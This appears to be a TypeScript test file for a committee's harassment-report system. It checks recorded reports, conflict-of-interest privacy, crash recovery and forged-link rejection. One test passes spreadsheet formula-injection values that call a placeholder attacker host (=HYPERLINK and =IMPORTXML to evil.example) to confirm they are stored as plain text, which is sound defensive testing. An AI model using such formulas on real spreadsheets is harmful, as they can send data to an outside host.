// Reports recorded by a member (received by email or in person, issue 18) through the built bundle: the page asks the Form's items, the report becomes a case as a Form report does, the recording member is conflicted only when they say so, bad links are refused; invariants after every request.
import {
  ANA,
  BO,
  CY,
  HOUR,
  advance,
  docEditors,
  forgeToken,
  linkFor,
  mailsTo,
  memberId,
  newestLink,
  open,
  outcomeOf,
  pageText,
  press,
  registryRows,
  setActive,
  startDesk,
  stateFingerprint,
  statusRows,
  type Desk,
  type MemberSpec,
  genericBody,
} from './desk';
import { findViolations } from './invariants';

const REPORTER = { name: 'Quorra Vantine', email: 'quorra.vantine@example.net' };
const REPORTED = 'Zeph Mallory';
const WITNESS = 'Tobin Fenwhistle';
const WHAT = 'At the meetup Zeph Mallory kept interrupting and mocking my talk after I asked them to stop.';

function world(): Desk {
  const desk = startDesk({ members: [ANA, BO, CY] });
  desk.k.people.push({ reporter: REPORTER, reported: [{ name: REPORTED }], witnesses: [{ name: WITNESS }] });
  return desk;
}

function record(desk: Desk, member: MemberSpec, answers: Record<string, string>, extra: Record<string, string> = {}) {
  return press(desk, open(desk, newestLink(desk, member.email, 'record').url), 'record', {
    fields: { ...answers, ...extra },
  });
}

const ANSWERS = {
  'Your name': REPORTER.name,
  'Your email address': REPORTER.email,
  'Who was involved?': REPORTED,
  'What happened?': WHAT,
  'How did it affect you?': 'I stopped going to the meetups.',
  'Were there witnesses?': WITNESS,
};

function recordedCase(desk: Desk) {
  const rows = registryRows(desk, 'Cases').filter((r) => r['Response ID'].startsWith('rec:'));
  expect(rows).toHaveLength(1);
  return rows[0];
}

describe('a member records a report they received', () => {
  test('the welcome email carries the link; the page asks every Form item; the report becomes a case as a Form report does', () => {
    const desk = world();
    const page = open(desk, newestLink(desk, ANA.email, 'record').url);
    for (const title of [
      'Your name',
      'Who was involved?',
      'What happened?',
      'How did it affect you?',
      'Anything else we should know?',
    ])
      expect(pageText(page)).toContain(title);
    // Opening the page changes nothing.
    expect(registryRows(desk, 'Cases')).toHaveLength(0);

    const done = record(desk, ANA, ANSWERS);
    expect(outcomeOf(done)).toBe('done');
    const row = recordedCase(desk);
    expect(row.Phase).toBe('screening');
    expect(row['Response ID']).toContain(memberId(desk, ANA.email));
    // The answers waited in the registry only until the Doc held them.
    expect(row.Flags).not.toContain('recorded');
    // The audit says how it came (a member id, never a name).
    const audit = registryRows(desk, 'Audit').find((a) => a.Event === 'case.created');
    expect(audit?.Detail).toContain(`recorded by member ${memberId(desk, ANA.email)}`);
    expect(statusRows(desk).map((r) => r['Code Name'])).toContain(row['Code Name']);
    const doc = desk.ws.data.doc(row['Doc ID']).text;
    expect(doc).toMatch(/How it reached us\s*Recorded by a committee member, who received it by email or in person\./);
    expect(doc).toContain(WHAT);
    expect(doc).toMatch(/How did it affect you\?\s*I stopped going to the meetups\./);
    expect(doc).toMatch(/Report recorded by Ana Lima \(received by email or in person\)/);
    // Acknowledgment to the reporter, screening to every active member, the recording member too.
    expect(desk.ws.mailTo(REPORTER.email)).toHaveLength(1);
    for (const m of [ANA, BO, CY]) {
      const screening = mailsTo(desk, m.email, /^New report/);
      expect(screening).toHaveLength(1);
      expect(screening[0].body).toContain(REPORTED);
      expect(screening[0].body).not.toContain(REPORTER.name);
    }
    // Nobody has the Doc before a "no conflict".
    expect(docEditors(desk, row['Doc ID'])).toEqual([]);
    press(desk, open(desk, newestLink(desk, ANA.email, 'no-conflict').url), 'no-conflict');
    expect(docEditors(desk, row['Doc ID'])).toEqual([ANA.email]);
  });

  test('ADV-175 the browser is told not to keep the answers: a shared computer offers no earlier reporter\u2019s name', () => {
    // Before: plain text inputs, which browsers remember by field name and offer on the next form with that name.
    const desk = world();
    const page = open(desk, newestLink(desk, ANA.email, 'record').url);
    const forms = page.response.body.match(/<form\b[^>]*>/g) ?? [];
    expect(forms.length).toBeGreaterThan(0);
    for (const form of forms) expect(form).toMatch(/autocomplete="off"/);
  });

  test('the recording member is conflicted only when they tick the box: no screening email, never access', () => {
    const desk = world();
    record(desk, ANA, ANSWERS, { conflict: 'yes' });
    const row = recordedCase(desk);
    const clearances = registryRows(desk, 'Clearances').filter((c) => c['Case ID'] === row['Case ID']);
    expect(clearances).toEqual([
      expect.objectContaining({ 'Member ID': memberId(desk, ANA.email), Decision: 'conflict' }),
    ]);
    // In the registry only: the shared Conflicts tab would say who received the report (ADV-57).
    expect(statusRows(desk, 'Conflicts')).toEqual([]);
    expect(mailsTo(desk, ANA.email, /^New report/)).toHaveLength(0);
    for (const m of [BO, CY]) expect(mailsTo(desk, m.email, /^New report/)).toHaveLength(1);
    expect(desk.ws.data.doc(row['Doc ID']).text).toMatch(/they declared a conflict of interest/);
    press(desk, open(desk, newestLink(desk, BO.email, 'no-conflict').url), 'no-conflict');
    expect(docEditors(desk, row['Doc ID'])).toEqual([BO.email]);
  });

  test('ADV-57 the status sheet never tells the other members who recorded a report with a conflict of interest', () => {
    const desk = world();
    record(desk, ANA, ANSWERS, { conflict: 'yes' });
    const codeName = recordedCase(desk)['Code Name'];
    // Bo and Cy each declare a conflict too: only theirs are listed, after their screening emails.
    for (const m of [BO, CY]) press(desk, open(desk, newestLink(desk, m.email, 'conflict').url), 'conflict');
    expect(statusRows(desk, 'Conflicts').map((c) => [c['Code Name'], c.Member])).toEqual([
      [codeName, BO.name],
      [codeName, CY.name],
    ]);
    // Outside the roster, no tab every member reads names the member who received the report.
    for (const tab of ['Cases', 'Conflicts', 'Settings'])
      expect({ tab, rows: JSON.stringify(statusRows(desk, tab)) }).not.toEqual({
        tab,
        rows: expect.stringMatching(/Ana|Lima/),
      });
  });

  test('the same page sent twice, or the same answers from the link opened afresh, is one case; other answers another', () => {
    const desk = world();
    const page = open(desk, newestLink(desk, ANA.email, 'record').url);
    press(desk, page, 'record', { fields: ANSWERS });
    const again = press(desk, page, 'record', { fields: ANSWERS });
    expect(pageText(again)).toMatch(/already recorded/);
    // Told "something went wrong", the member opens the link again and types the same answers.
    expect(pageText(record(desk, ANA, ANSWERS))).toMatch(/already recorded/);
    expect(registryRows(desk, 'Cases')).toHaveLength(1);
    expect(desk.ws.mailTo(REPORTER.email)).toHaveLength(1);
    record(desk, ANA, { ...ANSWERS, 'What happened?': 'Another zorblat incident, told in person.' });
    expect(registryRows(desk, 'Cases')).toHaveLength(2);
  });

  test('refuses a report without "What happened?" or with a choice the Form does not list, and records nothing', () => {
    const desk = world();
    const before = stateFingerprint(desk);
    const { ['What happened?']: _omitted, ...withoutWhat } = ANSWERS;
    const page = open(desk, newestLink(desk, ANA.email, 'record').url);
    const refused = press(desk, page, 'record', { fields: { ...withoutWhat, 'What happened?': '  ' } });
    expect(outcomeOf(refused)).toBe('refused');
    expect(pageText(refused)).toMatch(/Please answer "What happened\?"/);
    // What the member typed is kept for them.
    expect(refused.response.body).toContain(`value="${REPORTER.email}"`);
    const token = newestLink(desk, ANA.email, 'record').token;
    const forced = desk.ws.webPost(desk.ws.webAppUrl, {
      t: token,
      op: 'record',
      confirm: 'yes',
      'What happened?': WHAT,
      'Is anyone in immediate danger?': 'Maybe tomorrow',
    });
    desk.check();
    expect(pageText({ body: forced.body } as never)).toMatch(/Please choose an answer listed/);
    expect(stateFingerprint(desk)).toBe(before);
  });

  test('answers that look like formulas are written as text everywhere', () => {
    const desk = world();
    record(desk, ANA, {
      ...ANSWERS,
      'Your name': '=HYPERLINK("http://evil.example","x")',
      'Who was involved?': `${REPORTED}, +SUM(1,2)`,
      'When did it happen?': '@now',
      'What happened?': `=IMPORTXML("http://evil.example") ${WHAT}`,
    });
    const row = recordedCase(desk);
    expect(row['Reporter Name']).toBe('=HYPERLINK("http://evil.example","x")');
    expect(desk.ws.data.doc(row['Doc ID']).text).toContain('=IMPORTXML("http://evil.example")');
    desk.check(); // invariant 4: no cell the system wrote became a formula
  });
});

describe('a crash while a report is recorded', () => {
  /** The record POST a member makes, raw (the test checks the invariants itself around the crash). */
  function postRecord(desk: Desk) {
    const link = newestLink(desk, ANA.email, 'record');
    desk.ws.webGet(link.url);
    const fields = { t: link.token, op: 'record', confirm: 'yes', ...ANSWERS };
    return { post: () => desk.ws.webPost(desk.ws.webAppUrl, fields) };
  }
  const reference = (() => {
    const desk = world();
    return postRecord(desk).post().record.sideEffects;
  })();

  test('the reference POST has the side effects the test walks through', () => expect(reference).toBeGreaterThan(10));

  /** The outbox key of the last mail the crashed execution sent, when nothing records it as sent (it may go again). */
  function unjournaledSend(desk: Desk, execution: number): string | null {
    const sent = desk.ws.mail().filter((m) => m.execution === execution);
    const last = sent[sent.length - 1];
    if (!last) return null;
    const row = registryRows(desk, 'Outbox').find((r) => r.To === last.to.join(',') && r.Subject === last.subject);
    const journal = JSON.parse(desk.ws.properties().outboxJournal ?? '[]') as string[];
    return !row || row.State === 'sent' || journal.includes(row.Key) ? null : row.Key;
  }

  const points = [1, 2, 3, 5, Math.floor(reference / 2), reference - 2];
  test.each(points)(
    'crash before side effect #%i, the hourly sweep, then the member sends the same page again: one case, whole',
    (k) => {
      const desk = world();
      const { post } = postRecord(desk);
      desk.ws.rt.crashPlan = { atSideEffect: k };
      const crashed = post();
      expect(crashed.record.outcome).toBe('killed');
      // Between the crash and the recovery the case may be unfinished (and only that).
      const unfinished = registryRows(desk, 'Cases').filter((c) => c.Phase === 'intake');
      for (const c of unfinished) desk.k.unfinishedResponses.add(c['Response ID']);
      const unjournaled = unjournaledSend(desk, crashed.record.id);
      if (unjournaled) desk.k.allowedDuplicateKeys.add(unjournaled);
      expect(findViolations(desk.ws, desk.k)).toEqual([]);
      // The sweep finishes a case whose registry row was written, from the answers kept there (no Form holds them).
      const sweeps = desk.ws.advance(65 * 60 * 1000);
      expect(sweeps.map((r) => r.record.fn)).toContain('sweep_');
      for (const c of unfinished) desk.k.unfinishedResponses.delete(c['Response ID']);
      // The member, told something went wrong, sends the same page again: never a second case.
      expect(post().record.outcome).toBe('ok');
      expect(findViolations(desk.ws, desk.k)).toEqual([]);
      const rows = registryRows(desk, 'Cases');
      expect(rows).toHaveLength(1);
      expect(rows[0].Phase).toBe('screening');
      expect(rows[0].Flags).not.toContain('recorded');
      const doc = desk.ws.data.doc(rows[0]['Doc ID']).text;
      expect(doc).toContain(WHAT);
      expect(doc).toMatch(/Report recorded by Ana Lima/);
      for (const m of [ANA, BO, CY]) expect(mailsTo(desk, m.email, /^New report/).length).toBeGreaterThanOrEqual(1);
      expect(desk.ws.mailTo(REPORTER.email).length).toBeGreaterThanOrEqual(1);
      expect(registryRows(desk, 'Audit').filter((a) => a.Event.startsWith('case.created'))).toHaveLength(1);
    },
  );
});

describe('record links that cannot be used', () => {
  function expectGeneric(desk: Desk, token: string): void {
    const before = stateFingerprint(desk);
    const generic = desk.ws.webGet(desk.ws.webAppUrl).body;
    const get = desk.ws.webGet(linkFor(desk, token));
    const post = desk.ws.webPost(desk.ws.webAppUrl, {
      t: token,
      op: 'record',
      confirm: 'yes',
      'What happened?': WHAT,
    });
    desk.check();
    expect(genericBody(get.body)).toBe(genericBody(generic));
    expect(genericBody(post.body)).toBe(genericBody(generic));
    expect(stateFingerprint(desk)).toBe(before);
  }

  test('forged, expired, for a member made inactive, or bound to a case: the generic page, nothing recorded', () => {
    const desk = world();
    const link = newestLink(desk, ANA.email, 'record');
    expectGeneric(desk, forgeToken(desk, link.claims, Buffer.alloc(32, 9)));
    expectGeneric(desk, forgeToken(desk, { ...link.claims, exp: Math.floor(desk.ws.rt.now() / 1000) - 1 }));
    expectGeneric(desk, forgeToken(desk, { ...link.claims, cid: 'c_000000000000' }));
    const boLink = newestLink(desk, BO.email, 'record');
    setActive(desk, BO.email, false);
    expectGeneric(desk, boLink.token);
    expect(registryRows(desk, 'Cases')).toHaveLength(0);
  });

  test('a link lasts a year (it comes with the welcome email, kept for when a report arrives)', () => {
    const desk = world();
    const { claims } = newestLink(desk, ANA.email, 'record');
    expect(claims.exp - Math.floor(desk.ws.rt.now() / 1000)).toBeGreaterThanOrEqual(365 * 86400 - 3600);
    expect(claims.cid).toBe('-');
  });

  test("another action's link cannot record: a propose link posting op=record records nothing", () => {
    const desk = world();
    const before = registryRows(desk, 'Cases').length;
    const token = newestLink(desk, ANA.email, 'propose').token;
    desk.ws.webPost(desk.ws.webAppUrl, {
      t: token,
      op: 'record',
      confirm: 'yes',
      'What happened?': WHAT,
    });
    desk.check();
    expect(registryRows(desk, 'Cases')).toHaveLength(before);
  });
});

describe('members who joined before reports could be recorded', () => {
  /** Script Properties as the owner edits them in Project Settings (the emulator has no editor for them). */
  const scriptProperties = (desk: Desk) =>
    (desk.ws as unknown as { propertyStores: { script: Map<string, string> } }).propertyStores.script;
  const oneOffs = (desk: Desk, m: MemberSpec) => mailsTo(desk, m.email, /^Recording a report you received/);

  test('setup sends each onboarded member their link once (an upgrade), and never again', () => {
    const desk = world();
    // A fresh installation: the members' welcome emails carried the link, so setup sends nothing more.
    expect(desk.ws.run('setup').record.outcome).toBe('ok');
    advance(desk, HOUR);
    for (const m of [ANA, BO, CY]) expect(oneOffs(desk, m)).toHaveLength(0);
    // An installation upgraded from a version without recorded reports has no such property yet.
    scriptProperties(desk).delete('recordLinksSent');
    setActive(desk, CY.email, false);
    expect(desk.ws.run('setup').record.outcome).toBe('ok');
    expect(desk.ws.run('setup').record.outcome).toBe('ok');
    advance(desk, HOUR);
    desk.check();
    for (const m of [ANA, BO]) expect(oneOffs(desk, m)).toHaveLength(1);
    expect(oneOffs(desk, CY)).toHaveLength(0);
    const link = newestLink(desk, BO.email, 'record');
    expect(link.claims.sub).toBe(memberId(desk, BO.email));
    record(desk, BO, ANSWERS);
    expect(recordedCase(desk)['Response ID']).toContain(memberId(desk, BO.email));
  });
});
